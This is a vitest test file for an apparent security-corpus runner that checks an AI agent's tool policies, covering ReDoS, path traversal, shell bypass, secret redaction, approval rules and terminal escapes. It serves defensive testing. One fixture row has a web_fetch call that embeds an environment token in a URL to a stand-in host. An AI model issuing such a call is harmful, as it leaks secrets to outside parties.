import { execFile } from 'node:child_process'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { promisify } from 'node:util'
import { expect, it } from 'vitest'
import { temporaryWorkspace } from '../../src/testing/index.ts'

const attack = fileURLToPath(new URL('./attack.ts', import.meta.url))

const ROWS = {
  'redos.jsonl': [
    { id: 'deep', pattern: '**/*.txt', input: 'a/b/c.txt', class: 'glob', expect: 'bounded', budget_ms: 1000 },
    { id: 'endless', pattern: 'x*', input: 'x'.repeat(300), class: 'glob', expect: 'bounded', budget_ms: 1000 },
  ],
  'path-traversal.jsonl': [{ id: 'verb', op: 'teleport', path: 'a.txt', class: 'x', expect: 'deny' }],
  'shell-bypass.jsonl': [{ id: 'policy', command: 'ls', policy: 'of another corpus', class: 'x', expect: 'deny' }],
  'secrets.jsonl': [
    {
      id: 'store',
      store: { OWN_KEY: 'value-of-this-row-alone' },
      secret: 'OWN_KEY',
      output: 'before value-of-this-row-alone after',
      class: 'redact-edge',
      expect: 'redacted',
    },
    {
      id: 'arguments',
      call: {
        tool: 'web_fetch',
        args: { url: 'https://somewhere.test/$ENV.PLAIN_TOKEN', retries: 3, headers: { a: 'b' } },
      },
      class: 'inject-policy',
      expect: 'policy',
    },
  ],
  'approval.jsonl': [
    {
      id: 'more',
      rule: { tool: 'run', pattern: '^\\{"command":"npm test","cwd":"."\\}$' },
      call: { tool: 'run', args: { command: 'npm test', cwd: '.' } },
      class: 'seed-example',
      expect: 'allow',
    },
  ],
  'terminal.jsonl': [{ id: 'word', field: 'path', value: 'a', class: 'escape', expect: 'shown in red' }],
}

it('runs rows of other shapes, and tells those that it cannot run from those that failed', async () => {
  await using corpus = temporaryWorkspace()
  for (const [name, rows] of Object.entries(ROWS))
    writeFileSync(join(corpus.path, name), rows.map(row => `${JSON.stringify({ why: '', ...row })}\n`).join(''))
  const { stdout } = await promisify(execFile)(process.execPath, [attack, corpus.path])
  const files = stdout.split('\n').filter(line => /^\S/.test(line))
  expect(files).toEqual([
    'approval.jsonl: 1/1 (security 0/0, legitimate 1/1)',
    'path-traversal.jsonl: 0/0 (security 0/0, legitimate 0/0), 1 not run',
    'redos.jsonl: 1/1 (security 1/1, legitimate 0/0), 1 not run',
    'secrets.jsonl: 2/2 (security 2/2, legitimate 0/0)',
    'shell-bypass.jsonl: 0/0 (security 0/0, legitimate 0/0), 1 not run',
    'terminal.jsonl: 0/0 (security 0/0, legitimate 0/0), 1 not run',
  ])
  expect(stdout).toContain("  verb not run: no tool stands for 'teleport'\n")
})
